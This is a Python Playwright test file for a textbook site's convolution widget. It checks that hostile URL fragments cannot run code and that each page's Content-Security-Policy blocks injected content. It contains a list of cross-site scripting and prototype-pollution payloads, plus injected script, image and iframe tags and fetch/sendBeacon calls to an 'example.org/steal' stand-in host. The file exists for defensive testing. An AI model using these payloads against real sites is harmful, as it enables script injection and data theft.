"""What a hostile link or picture cannot do, and that the pages' policy stands in its way."""

import json
from urllib.parse import quote

import pytest
from places import site_pages
from playwright.sync_api import Page, Route

pytestmark = pytest.mark.browser

CHAPTER = "book/05_convolution.html"
MARK = "document.documentElement.dataset.ran=1"
PAYLOADS = [
    f"<script>{MARK}</script>",
    f"image=<script>{MARK}</script>",
    f'image="<img src=x onerror={MARK}>"',
    f'image=["<img src=x onerror={MARK}>"]',
    f'image=[["<svg onload={MARK}>"]]',
    f'kernel="<svg/onload={MARK}>"',
    f'kernel=[["<b onmouseover={MARK}>",0],[0,1]]',
    f"kernel=@<img src=x onerror={MARK}>",
    f'padding="<iframe srcdoc=\\"<script>parent.{MARK}</script>\\">"',
    f"padding=javascript:{MARK}",
    f'padding="javascript:{MARK}"',
    f'mode="</script><script>{MARK}</script>"',
    f"stride=1;{MARK}",
    f"stride=eval('{MARK}')",
    f"stride=(()=>{{{MARK}}})()",
    f"onclick={MARK}",
    f"innerHTML=<img src=x onerror={MARK}>",
    f"<img src=x onerror={MARK}>=1",
    '__proto__={"ran":1}',
    "constructor.prototype.ran=1",
    'kernel={"__proto__":{"ran":1}}',
    "kernel=@__proto__",
    "kernel=@constructor",
    'image={"toString":"alert"}',
    "image=" + json.dumps([[1e308] * 3] * 3),
    "image=[[1e999]]",
    "kernel=[[NaN]]",
    "kernel=null",
    "kernel=[]",
    "kernel=[[]]",
    "stride=-1",
    "stride=1e9",
    "padding=" + "9" * 400,
    "widget=draw_digit",
    "image=https://example.org/tracker.png",
    'image="https://example.org/tracker.png"',
    'images={"own":"https://example.org/tracker.png"}',
    "position=" + "9" * 30_000,
    "%",
    "%00=1",
    "=&=&=&",
    "stride=1&stride=2&stride=<x>",
]


def test_there_are_enough_hostile_links() -> None:
    assert len(set(PAYLOADS)) >= 30


@pytest.mark.parametrize("encoded", [False, True], ids=["plain", "percent-encoded"])
def test_no_link_runs_anything_or_reaches_out(site: str, page: Page, encoded: bool) -> None:
    page.on("dialog", lambda dialog: pytest.fail(f"a dialog: {dialog.message}"))
    errors: list[str] = []
    page.on("pageerror", lambda error: errors.append(str(error)))
    for payload in PAYLOADS:
        name, equals, value = payload.partition("=")
        fragment = f"{name}{equals}{quote(value)}" if encoded else payload
        page.goto("about:blank")
        page.goto(f"{site}/{CHAPTER}#cnnlab-0&{fragment}")
        box = page.locator(".cnnlab-widget").first
        # Whatever the link says, there is a widget that works or a message in its place.
        box.locator(".cnnlab[role=group], .cnnlab-problem").first.wait_for()
        for strange in ("img", "script", "iframe", "[onload]", "[onerror]", "[onmouseover]"):
            assert box.locator(strange).count() == 0, payload
        assert not page.evaluate("document.documentElement.dataset.ran"), payload
        assert page.evaluate("({}).ran === undefined"), payload
        assert page.url.startswith(f"{site}/{CHAPTER}#"), payload
        assert errors == [], payload


def test_every_page_has_the_policy_and_no_page_breaks_it(site: str) -> None:
    for path in site_pages():
        text = path.read_text(encoding="utf-8")
        assert text.count('http-equiv="Content-Security-Policy"') == 1, path
        assert text.index("charset") < text.index("Content-Security-Policy") < text.index("<script")


def test_the_policy_stops_what_would_be_injected(site: str, page: Page) -> None:
    asked: list[str] = []

    def answer(route: Route) -> None:
        asked.append(route.request.url)
        route.fulfill(status=200, body=MARK)

    # Nothing but the policy stands between the page and this host.
    page.route("https://example.org/**", answer)
    page.goto(f"{site}/{CHAPTER}")
    broken = page.evaluate(
        """async (mark) => {
             const broken = [];
             addEventListener("securitypolicyviolation", (e) => broken.push(e.effectiveDirective));
             const add = (html) =>
               document.body.append(document.createRange().createContextualFragment(html));
             add(`<script>${mark}</script>`);
             add(`<script src="https://example.org/script.js"></script>`);
             add(`<img src="x:" onerror="${mark}">`);
             add(`<a id="go" href="javascript:${mark}">go</a>`);
             document.getElementById("go").click();
             add(`<img src="https://example.org/pixel.png">`);
             add(`<iframe src="https://example.org/"></iframe>`);
             add(`<style>body { display: none }</style>`);
             add(`<base href="https://example.org/">`);
             await fetch("https://example.org/steal").catch(() => {});
             setTimeout(() => eval(mark)); // later: what a debugger evaluates may evaluate, too
             try { navigator.sendBeacon("https://example.org/steal"); } catch {}
             await new Promise((done) => setTimeout(done, 300));
             return broken;
           }""",
        MARK,
    )
    assert asked == []
    assert not page.evaluate("document.documentElement.dataset.ran")
    assert page.evaluate("getComputedStyle(document.body).display") != "none"
    assert page.evaluate("document.baseURI").startswith(site)
    assert set(broken) >= {
        *("script-src-elem", "script-src-attr", "script-src", "style-src-elem"),
        *("img-src", "frame-src", "connect-src", "base-uri"),
    }
